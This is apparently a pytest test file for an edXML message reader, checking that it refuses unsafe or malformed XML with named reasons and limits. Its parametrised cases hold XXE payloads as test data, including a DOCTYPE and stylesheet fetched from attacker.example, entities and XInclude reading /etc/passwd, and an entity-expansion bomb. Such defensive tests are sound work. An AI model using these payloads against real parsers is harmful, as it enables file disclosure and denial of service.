"""What a reader refuses before it can do harm (edXML §11, reader rules)."""

import dataclasses
import io

import pytest

from lienthong.formats.edxml import Limits, Unreadable, read
from lienthong.formats.edxml.samples import sample
from lienthong.formats.edxml.tests.building import edited

SUBJECT = "<edXML:Subject>"
MANY_ATTRIBUTES = " ".join(f"b{number}=''" for number in range(70))
TOP = '<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">'


def refused(data: bytes, **limits: int) -> Unreadable:
    with pytest.raises(Unreadable) as caught:
        read(data, limits=dataclasses.replace(Limits(), **limits))
    assert caught.value.say("vi")
    assert caught.value.say("en")
    return caught.value


@pytest.mark.parametrize(
    ("inserted", "construct"),
    [
        ('<!DOCTYPE edXML SYSTEM "http://attacker.example/x.dtd">', "DOCTYPE"),
        ('<!DOCTYPE edXML [<!ENTITY a "b">]>', "DOCTYPE"),
        ('<!DOCTYPE edXML [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "DOCTYPE"),
        ('<!DOCTYPE edXML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>', "DOCTYPE"),
        ('<?xml-stylesheet href="http://attacker.example/x.xsl"?>', "xml-stylesheet"),
    ],
)
def test_what_can_fetch_or_expand_is_refused_before_it_does(inserted: str, construct: str) -> None:
    assert refused(edited("new-document", ("<edXML xmlns", f"{inserted}<edXML xmlns"))).facts["construct"] == construct


def test_xinclude_is_refused() -> None:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    assert refused(edited("new-document", (SUBJECT, include + SUBJECT))).facts["construct"] == "XInclude"


def test_an_entity_that_nobody_declared_is_refused() -> None:
    assert refused(edited("new-document", (">V/v báo cáo", ">&xxe;"))).reason == "not_well_formed"


def test_other_processing_instructions_are_ignored() -> None:
    reading = read(edited("new-document", ("<edXML xmlns", "<?may-soan 1?><edXML xmlns")))
    assert "processing_instruction" in {finding.code for finding in reading.findings}


@pytest.mark.parametrize(
    ("data", "limit", "allowed"),
    [
        (sample("new-document") + b" " * 200_000, "total_bytes", 100_000),
        (edited("new-document", (SUBJECT, " " * 200_000 + SUBJECT)), "header_bytes", 50_000),
        (edited("new-document", (SUBJECT, SUBJECT + "x" * 3000)), "field_characters", 1000),
        (edited("new-document", (SUBJECT, "<a>" * 50 + "</a>" * 50 + SUBJECT)), "depth", 40),
        (edited("new-document", (SUBJECT, "<a/>" * 500 + SUBJECT)), "elements", 400),
        (edited("new-document", (SUBJECT, f"<a {MANY_ATTRIBUTES}/>{SUBJECT}")), "attributes", 64),
        (sample("xlsx-zipped"), "attachments", 1),
    ],
)
def test_each_limit_refuses_by_its_name(data: bytes, limit: str, allowed: int) -> None:
    no = refused(data, **{limit: allowed})
    assert (no.reason, no.facts["limit"], no.facts["allowed"]) == ("too_much", limit, allowed)


@pytest.mark.parametrize(
    "endless",
    [
        (f"{TOP}<!--", "x", ""),
        (f"{TOP}<a b='", "x", ""),
        (f"{TOP}<?pi ", "x", ""),
        (f"{TOP}<", "x", ""),
        (f"{TOP}<a>", "x", ""),
        (f"{TOP}<a>", "x<b/>", ""),
        (f"{TOP}", "<a/>", ""),
        (f"{TOP}", "<a>", ""),
        (f"{TOP}<a ", "b='' ", ""),
        ("<?xml version='1.0'", " ", ""),
        ("", " ", ""),
    ],
    ids=str,
)
def test_an_endless_piece_of_markup_stops_early(endless: tuple[str, str, str]) -> None:
    """Expat holds an unfinished tag, comment or instruction whole: 64 MB of one must not end up in memory."""
    start, again, _ = endless
    source = Endless(start.encode(), again.encode())
    with pytest.raises(Unreadable):
        read(source, limits=dataclasses.replace(Limits(), total_bytes=64_000_000))  # type: ignore[arg-type]
    assert source.given < 8_000_000


class Endless(io.RawIOBase):
    """A file that never ends."""

    def __init__(self, start: bytes, again: bytes) -> None:
        self._start = start
        self._again = again
        self.given = 0

    def read(self, size: int = -1) -> bytes:
        assert size > 0
        piece, self._start = self._start[:size], self._start[size:]
        piece += (self._again * (size // len(self._again) + 1))[: size - len(piece)]
        self.given += len(piece)
        return piece


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "nothing_there"),
        (b"   \n", "nothing_there"),
        (b"%PDF-1.7", "nothing_there"),
        (b"PK\x03\x04" + b"\0" * 100, "nothing_there"),
        (b"x" * 10_000 + sample("new-document"), "nothing_there"),
        (sample("new-document")[:1500], "not_well_formed"),
        (sample("new-document").replace(b"</edXML:Subject>", b""), "not_well_formed"),
        (sample("new-document").replace(b"Lan", b"\xff\xfe").replace(b"Gia", b"\xc3\x28"), "not_well_formed"),
        (sample("new-document").replace(b"UTF-8", b"klingon"), "unknown_encoding"),
        (sample("new-document").replace(b"UTF-8", b"Shift_JIS"), "unknown_encoding"),
        (sample("new-document").decode().encode("utf-32"), "unknown_encoding"),
    ],
)
def test_what_is_no_message_is_refused_with_a_reason(data: bytes, reason: str) -> None:
    assert refused(data).reason == reason


def test_broken_xml_is_located() -> None:
    no = refused(sample("new-document").replace(b"</edXML:Subject>", b"</edXML:Subjekt>"))
    line = sample("new-document").decode().splitlines()[int(str(no.facts["line"])) - 1]
    assert "<edXML:Subject>" in line
    assert "mismatched tag" in str(no.facts["detail"])
